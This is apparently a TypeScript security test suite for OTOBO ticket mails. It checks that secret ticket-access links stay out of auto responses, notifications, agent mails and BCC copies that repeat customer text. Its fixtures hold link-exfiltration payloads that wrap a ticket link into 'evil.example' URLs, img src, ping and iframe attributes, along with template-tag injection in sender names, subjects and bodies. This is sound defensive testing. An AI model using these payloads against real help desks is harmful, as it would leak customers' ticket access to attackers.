import { expect } from "chai";
import type { SentMail } from "../otobo/outbox.ts";
import { linkOf, opensSomething, inertLinkOf, secretOf } from "./links.ts";
import { followUpMail, mail, type MailParts } from "./mails.ts";
import type { ScenarioGroup, Scenario } from "./scenario.ts";
import { strayPlaces } from "./secret-places.ts";
import { mailIn, newest, opens, tag } from "./steps.ts";
import type { TestEnvironment } from "./test-environment.ts";

const evil = "https://evil.example/?u=";
const htmlTag = "&lt;OTOBO_OTACustomerTicketLink&gt;";

/** Everything of a customer's mail that an auto response can repeat. */
const quoting = {
  subject: "Re: <OTOBO_CUSTOMER_SUBJECT[200]>",
  text: [
    `Your ticket "<OTOBO_TICKET_Title>": ${tag}`,
    "Dear <OTOBO_CUSTOMER_DATA_UserLastname> (<OTOBO_CUSTOMER_DATA_UserFirstname>),",
    "you wrote about <OTOBO_CUSTOMER_SUBJECT>:",
    "<OTOBO_CUSTOMER_BODY>",
    "<OTOBO_CUSTOMER_EMAIL[30]>",
    "<OTOBO_CUSTOMER_BODY[3]>",
  ].join("\n"),
};

/** The mails that left since `before`; none has a secret where an honest one has none. */
const honestMails = async (environment: TestEnvironment, before: number): Promise<SentMail[]> => {
  const mails = (await environment.allMails()).slice(before);
  for (const sent of mails) expect(await strayPlaces(sent), `${sent.subject}\n${sent.text}`).to.deep.equal([]);
  return mails;
};

const countMails = async (environment: TestEnvironment): Promise<number> => (await environment.allMails()).length;

/** Ways to make an address of one's own of a link. */
const wrappings = (link: string): string[] => [
  `${evil}${link}`,
  `"${evil} ${link}"`,
  `<${evil} ${link}>`,
  `<${evil}\n${link}>`,
  `<a href="${evil}${link}">${link}</a>`,
  `<img src="${evil} ${link}">`,
  `[Your ticket](${evil}${link})`,
];

/** A stranger's follow-up, and the inert link that the auto response to it tells him. */
const learnInertLink = async (environment: TestEnvironment, ticketNumber: string): Promise<string> => {
  const stranger = environment.freshAddress("stranger");
  await environment.receive(followUpMail(ticketNumber, { from: stranger }));
  const answer = newest(await environment.mailsTo(stranger));
  expect(answer && opensSomething(answer)).to.equal(false);
  return answer?.links[0] ?? "";
};

const asHtml = (body: string): MailParts => ({
  from: "",
  body: `<html><body>${body}</body></html>`,
  headers: { "Content-Type": "text/html; charset=utf-8" },
});

const strangers: Scenario[] = [
  {
    name: "an inert link that a stranger learned, wrapped into his own address and quoted to the victim, gets no secret",
    run: async (environment) => {
      const victim = environment.freshAddress("victim");
      const { ticketNumber } = await mailIn(environment, victim);
      const learned = await learnInertLink(environment, ticketNumber);
      expect(learned).to.match(/\/t\/\d+\/[0-9A-Za-z]{24}$/);
      await environment.setAutoResponses(quoting);
      const body = wrappings(learned).join("\n\n");
      for (const parts of [{ body }, asHtml(body)]) {
        const before = await countMails(environment);
        await environment.receive(followUpMail(ticketNumber, { ...parts, from: `Jane Doe <${victim}>` }));
        const [answer] = await honestMails(environment, before);
        expect(answer?.envelope.to).to.deep.equal([victim]);
        expect(answer?.text).to.contain("evil.example");
        expect(linkOf(answer)).not.to.contain(learned);
        await opens(linkOf(answer), ticketNumber);
      }
    },
  },
];

/** What an agent sends with a link of its own; `write` makes the mail of the inert link. */
const agentSends = async (
  environment: TestEnvironment,
  write: (safe: string) => Omit<Parameters<TestEnvironment["send"]>[1], "to">,
): Promise<{ sent: SentMail; safe: string; ticketNumber: string }> => {
  const address = environment.freshAddress("agents.customer");
  const { ticketNumber } = await mailIn(environment, address);
  const safe = /https?:[^\s"<]+/.exec(await environment.render(ticketNumber, tag))?.[0] ?? "";
  const before = await countMails(environment);
  await environment.send(ticketNumber, { to: address, ...write(safe) });
  const [sent] = await honestMails(environment, before);
  if (!sent) throw new Error("There is no mail");
  return { sent, safe, ticketNumber };
};

const agents: Scenario[] = [
  {
    name: "an agent's mail that wraps an inert link into another address leaves without a secret",
    run: async (environment) => {
      const anchors = (safe: string): string[] => [
        `<a href="${evil}${safe}">Ticket</a>`,
        `<img src="${evil}${safe}">`,
        `<img src="${evil} ${safe}">`,
        `<a href="${evil} ${safe}">${safe}</a>`,
        `<a href="${safe}" ping="${evil}">${safe}</a>`,
        `<iframe src="${safe}"></iframe><a href="${safe}">${safe}</a>`,
      ];
      for (const [index] of anchors("").entries()) {
        const text = (safe: string): string => `<p>Hello</p>${anchors(safe)[index] ?? ""}`;
        const { sent } = await agentSends(environment, (safe) => ({ html: true, text: text(safe) }));
        expect(opensSomething(sent), text("SAFE")).to.equal(false);
      }
      for (const wrap of [`${evil}SAFE`, `"${evil} SAFE"`, `<${evil} SAFE>`, `<${evil}\nSAFE>`]) {
        const { sent } = await agentSends(environment, (safe) => ({ text: `See ${wrap.replace("SAFE", safe)} soon` }));
        expect(opensSomething(sent), wrap).to.equal(false);
      }
    },
  },
  {
    name: "an image beside the link of an agent's mail learns nothing of its secret",
    run: async (environment) => {
      const { sent, safe, ticketNumber } = await agentSends(environment, (link) => ({
        html: true,
        text: `<p><a href="${link}">${link}</a> <img src="${evil}${link}"> <img src="${evil} ${link}"></p>`,
      }));
      expect(inertLinkOf(linkOf(sent))).to.equal(safe);
      expect(sent.html).to.contain(`src="${evil}${safe}"`);
      await opens(linkOf(sent), ticketNumber);
    },
  },
  {
    name: "the files of an agent's mail, HTML or not, have the inert link",
    run: async (environment) => {
      for (const html of [false, true]) {
        const { sent, safe, ticketNumber } = await agentSends(environment, (link) => ({
          html,
          text: html ? `<a href="${link}">${link}</a>` : `See ${link}`,
          attachments: [
            { filename: "page.html", contentType: "text/html", content: `<a href="${link}">${link}</a>` },
            { filename: "words.txt", contentType: "text/plain", content: `See ${link}\n` },
          ],
        }));
        expect(inertLinkOf(linkOf(sent))).to.equal(safe);
        await opens(linkOf(sent), ticketNumber);
      }
    },
  },
  {
    name: "of two new inert links in one mail none gets a secret, then or later",
    run: async (environment) => {
      const address = environment.freshAddress("two.new");
      const { ticketNumber } = await mailIn(environment, address);
      const links: string[] = [];
      for (const text of [tag, tag]) links.push((await environment.render(ticketNumber, text)).trim());
      expect(new Set(links).size).to.equal(2);
      const before = await countMails(environment);
      for (const text of [links.join("\n"), ...links]) await environment.send(ticketNumber, { to: address, text });
      const mails = await honestMails(environment, before);
      expect(mails.map(opensSomething)).to.deep.equal([false, false, false]);
    },
  },
  {
    name: "the copy for SendmailBcc has the inert link, the customer's mail one that works",
    run: async (environment) => {
      const archive = environment.freshAddress("archive");
      await environment.set("SendmailBcc", archive);
      const address = environment.freshAddress("archived");
      const { ticketNumber, link } = await mailIn(environment, address);
      const copies = await environment.mailsTo(archive);
      expect(copies.map(({ links }) => links)).to.deep.equal([[inertLinkOf(link)]]);
      const mails = (await environment.allMails()).filter(({ raw }) => raw.includes(ticketNumber));
      expect(mails.map(({ envelope }) => envelope.to).sort()).to.deep.equal([[archive], [address]].sort());
      await opens(link, ticketNumber);
    },
  },
];

/** A mail that has the tag wherever a sender can put it. */
export const tagged = (address: string): MailParts => ({
  from: `"${tag} ${evil}${tag}" <${address}>`,
  subject: `${tag} ${evil}${tag}`,
  body: [tag, `${evil}${tag}`, htmlTag, `<a href="${evil}${tag}">${tag}</a>`, "%3COTOBO_OTACustomerTicketLink%3E"].join(
    "\n",
  ),
});

const quotes: Scenario[] = [
  {
    name: "a link that a customer quotes in an answer goes to nobody else when an agent's mail or an auto response repeats it",
    run: async (environment) => {
      const address = environment.freshAddress("quoting.customer");
      const { ticketNumber, link } = await mailIn(environment, address);
      await environment.setAutoResponses(quoting);
      const words = `Still burning!\n\n> Your ticket is here:\n> ${link}\n> https://safe.example/?url=${encodeURIComponent(link)}`;
      const before = await countMails(environment);
      await environment.receive(followUpMail(ticketNumber, { from: address, body: words }));
      const colleague = environment.freshAddress("colleague");
      await environment.send(ticketNumber, { to: address, cc: colleague, text: `We know.\n\n${words}` });
      const html = `<p>We know.</p><blockquote><a href="${link}">${link}</a></blockquote>`;
      await environment.send(ticketNumber, { to: colleague, html: true, text: html });
      const mails = await honestMails(environment, before);
      expect(mails).to.have.lengthOf.at.least(3);
      for (const { raw, text, html: markup = "" } of mails)
        expect([raw.toString(), text, markup].join("\n")).not.to.contain(secretOf(link));
      for (const sent of await environment.mailsTo(colleague)) expect(sent.links).to.deep.equal([inertLinkOf(link)]);
      await opens(link, ticketNumber);
    },
  },
];

const tags: Scenario[] = [
  {
    name: "the tag in a sender's text, subject, title and name stays text when an auto response repeats them",
    run: async (environment) => {
      await environment.setAutoResponses(quoting);
      for (const html of [false, true]) {
        const address = environment.freshAddress("tagger");
        const parts = tagged(address);
        const before = await countMails(environment);
        const given = html ? { ...parts, ...asHtml(parts.body ?? ""), from: parts.from } : parts;
        const { ticketNumber } = await environment.receive(mail(given));
        const [answer, ...more] = await honestMails(environment, before);
        expect(more).to.deep.equal([]);
        expect(answer?.text).to.contain("evil.example");
        expect(answer?.links).to.have.lengthOf(1);
        await opens(linkOf(answer), ticketNumber);
      }
    },
  },
  {
    name: "the tag in a sender's text, subject, title and name stays text when a notification repeats them",
    run: async (environment) => {
      await environment.addNotification(
        { en: { subject: "Re: <OTOBO_CUSTOMER_SUBJECT[200]> <OTOBO_TICKET_Title>", text: `NOTE ${quoting.text}` } },
        { onNewTicket: true },
      );
      const address = environment.freshAddress("tagger");
      const before = await countMails(environment);
      const { ticketNumber } = await environment.receive(mail(tagged(address)));
      const mails = await honestMails(environment, before);
      const notification = mails.find(({ text }) => text.includes("NOTE"));
      expect(notification?.text).to.contain("evil.example");
      expect(notification?.links).to.have.lengthOf(1);
      expect(notification?.subject).not.to.contain("/t/");
      await opens(linkOf(notification), ticketNumber);
    },
  },
  {
    name: "the tag in a sender's words stays text in an agent's template, salutation and signature",
    run: async (environment) => {
      const repeated = "<OTOBO_TICKET_Title> <OTOBO_CUSTOMER_DATA_UserLastname>";
      await environment.setQueueTexts({ salutation: `Dear ${repeated},`, signature: `Bye ${repeated}` });
      const address = environment.freshAddress("tagger");
      const { ticketNumber } = await environment.receive(mail(tagged(address)));
      const before = await countMails(environment);
      await environment.send(ticketNumber, {
        to: address,
        text: await environment.render(ticketNumber, `${repeated}: ${tag}`),
      });
      const [sent] = await honestMails(environment, before);
      expect(sent?.text).to.contain("evil.example");
      expect(sent?.links).to.have.lengthOf(1);
      await opens(linkOf(sent), ticketNumber);
    },
  },
];

export const securityPlaces: ScenarioGroup = {
  title: "security: the secret stands only where an honest mail has it",
  scenarios: [...strangers, ...agents, ...quotes, ...tags],
};
